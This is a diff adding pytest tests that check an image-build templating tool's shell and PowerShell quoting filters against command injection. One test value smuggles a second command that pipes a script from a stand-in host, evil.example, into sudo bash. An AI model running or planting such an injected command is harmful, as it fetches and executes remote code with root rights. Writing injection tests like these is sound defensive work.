@@ -188,3 +188,74 @@ def test_validate_shows_the_refusal_as_one_line_and_exit_1(tmp_path):
     refused = [line for line in result.stderr.splitlines() if "refused:" in line]
     assert refused and all(":2: refused: the value of variable BaseName is written outside a JSON string" in line for line in refused)
     assert "Traceback" not in result.output
+
+
+# --- inside a command: the shell and powershell filters ---------------------------------------------
+
+SHELL_BREAKOUT = "x'; curl https://evil.example/x | sudo bash; echo '"
+
+
+def test_the_shipped_template_keeps_a_value_inside_the_commands_quotes():
+    from mdpool.imagebuild.shell import parse
+    from tests.imagebuild.conftest import REPO
+
+    spec = make_spec(REPO / "images" / "ubuntu-buildagent.json.j2", variables={"BaseName": SHELL_BREAKOUT})
+    steps = {step.name: step.inline for step in load_definition(spec).customizers}
+    first = parse(steps["WaitForCloudInit"][0])
+    assert [c.words for c in first.commands] == [("echo", "WaitForCloudInit", "Customizer", "for", SHELL_BREAKOUT, "(ubuntu-22.04)")]
+    info = next(line for line in steps["WriteImageInfo"] if line.startswith("printf"))
+    words = [c.words for c in parse(info).commands]
+    ordinary = make_spec(REPO / "images" / "ubuntu-buildagent.json.j2", variables={"BaseName": "b"})
+    as_shipped = next(line for line in load_definition(ordinary).customizers if line.name == "WriteImageInfo").inline
+    expected = [c.words[0] for c in parse(next(line for line in as_shipped if line.startswith("printf"))).commands]
+    assert [c[0] for c in words] == expected and "curl" not in expected  # the step's own commands, nothing added
+    printf = next(c for c in words if c[0] == "printf")
+    assert printf[:4] == ("printf", "%s\\n", "IMAGE_NAME=ubuntu-22.04", f"IMAGE_BASE={SHELL_BREAKOUT}")
+
+
+def test_the_shipped_template_renders_an_ordinary_value_as_before():
+    from tests.imagebuild.conftest import REPO
+
+    spec = make_spec(REPO / "images" / "ubuntu-buildagent.json.j2", variables={"BaseName": "jhp-ubuntu-buildagent"})
+    first = load_definition(spec).customizers[0].inline[0]
+    assert first == "echo 'WaitForCloudInit' Customizer for 'jhp-ubuntu-buildagent' '(ubuntu-22.04)'"
+
+
+@pytest.mark.parametrize(
+    "value, word",
+    [
+        ("plain", "'plain'"),
+        ("", "''"),
+        ("it's", "'it'\\''s'"),
+        ("'", "''\\'''"),
+        ('$(id) `id` "q" \\ ; | &', "'$(id) `id` \"q\" \\ ; | &'"),
+    ],
+)
+def test_shell_makes_one_single_quoted_word(tmp_path, value, word):
+    from mdpool.imagebuild.shell import parse
+
+    text = '{"TargetRegion": [{"Name": "westeurope"}], "Customizers": [{"ShellCustomizer": true, "Name": "A", "Inline": ["echo {{ V | shell }} end"]}]}'
+    assert customizers(tmp_path, text, V=value) == [("A", (f"echo {word} end",))]
+    assert [c.words for c in parse(f"echo {word} end").commands] == [("echo", value, "end")]
+
+
+@pytest.mark.parametrize(
+    "value, quoted",
+    [
+        ("plain", "'plain'"),
+        ("it's", "'it''s'"),
+        ("a\u2018b\u2019c\u201ad\u201be", "'a\u2018\u2018b\u2019\u2019c\u201a\u201ad\u201b\u201be'"),  # PowerShell's other single quotes
+        ('$env:X `n "q"', "'$env:X `n \"q\"'"),
+    ],
+)
+def test_powershell_makes_one_single_quoted_string(tmp_path, value, quoted):
+    text = '{"TargetRegion": [{"Name": "westeurope"}], "Customizers": [{"PowerShellCustomizer": true, "Name": "A", "Inline": ["Write-Output {{ V | powershell }}"]}]}'
+    path = write(tmp_path, "ps.json.j2", text)
+    assert json.loads(render_definition(path, {"V": value}).text)["Customizers"][0]["Inline"] == [f"Write-Output {quoted}"]
+
+
+def test_a_variable_joined_to_text_is_text_not_template_text(tmp_path):
+    text = '{"TargetRegion": [{"Name": "{{ (BaseName ~ \'-x\') | upper }}"}]}'
+    assert json.loads(render_definition(write(tmp_path, "u.json.j2", text), {"BaseName": 'a"b'}).text) == {
+        "TargetRegion": [{"Name": 'A"B-X'}]
+    }
